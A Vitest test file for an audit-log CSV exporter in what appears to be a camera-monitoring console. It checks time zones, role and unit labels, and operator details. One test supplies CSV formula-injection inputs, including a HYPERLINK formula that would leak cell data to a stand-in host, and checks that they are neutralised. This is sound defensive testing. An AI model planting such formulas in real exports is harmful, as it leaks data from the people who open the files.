import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { AuditRecordView } from '../../../preload/api';
import { auditCsv, type CsvWords } from './auditCsv';

const record = (over: Partial<AuditRecordView>): AuditRecordView => ({
  seq: 1,
  at: Date.UTC(2024, 0, 2, 3, 4, 5),
  console: 'con-1',
  role: 'operator',
  action: 'view_start',
  cameraId: 'cam-1',
  cameraName: '村口',
  siteName: '青山村',
  reason: null,
  detail: null,
  person: null,
  consoleUnit: null,
  ...over,
});

const words: CsvWords = {
  column: (name) => `<${name}>`,
  action: (action) => ({ view_start: '开始查看', snapshot: '抓图' })[action as 'view_start'] ?? action,
  role: (role) => (role === 'admin' ? '管理员' : '值班员'),
  repeats: (count) => `（共 ${count} 次）`,
};

/** The CSV's cells, unquoted (enough for these tests: no cell holds a quoted comma). */
const cellsOf = (csv: string) =>
  csv
    .replace(/^\ufeff/, '')
    .split('\r\n')
    .filter(Boolean)
    .slice(1)
    .map((line) => line.split(',').map((cell) => cell.replace(/^"|"$/g, '').replace(/""/g, '"')));

describe('the audit CSV', () => {
  const zone = process.env.TZ;
  beforeEach(() => {
    process.env.TZ = 'Asia/Shanghai';
  });
  afterEach(() => {
    process.env.TZ = zone;
  });

  it('neutralises cells Excel would run as a formula (= + - @, tab, CR at the start)', () => {
    const typed = ['=HYPERLINK("http://x.example/?"&A1)', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const rows = cellsOf(auditCsv(typed.map((reason, i) => record({ seq: i + 1, reason, cameraName: reason, siteName: reason })), words));
    expect(rows).toHaveLength(typed.length);
    for (const [i, row] of rows.entries()) {
      const [, , , camera, site, , , , , reason] = row;
      for (const cell of [camera, site, reason]) expect(cell, `row ${i + 1}`).toBe(`'${typed[i]}`);
    }
  });

  it('says the time in local time with its offset, the action and role in words, and keeps the code', () => {
    const [row] = cellsOf(auditCsv([record({ reason: '巡查 patrol', detail: 'source relay-rtsp' })], words));
    expect(row).toEqual(['1', '2024-01-02 11:04:05 +08:00', '开始查看', '村口', '青山村', '值班员 · con-1', '', '值班员', 'con-1', '巡查 patrol', 'source relay-rtsp', 'view_start']);
  });

  it("names the console's unit and the role when no one is named, not the machine's id", () => {
    const [row] = cellsOf(auditCsv([record({ consoleUnit: '东村' })], words));
    expect(row?.[5]).toBe('东村 · 值班员');
    expect(row?.[8]).toBe('con-1');
  });

  it('names the person, their unit and badge when a named operator did it', () => {
    const person = { name: '张三丰', badge: 'A1024', unit: '青山派出所' };
    const [row] = cellsOf(auditCsv([record({ action: 'snapshot', role: 'admin', person, repeats: 3, detail: 'x.jpg' })], words));
    expect(row?.slice(2)).toEqual(['抓图', '村口', '青山村', '青山派出所 · 张三丰', 'A1024', '管理员', 'con-1', '', 'x.jpg（共 3 次）', 'snapshot']);
  });
});
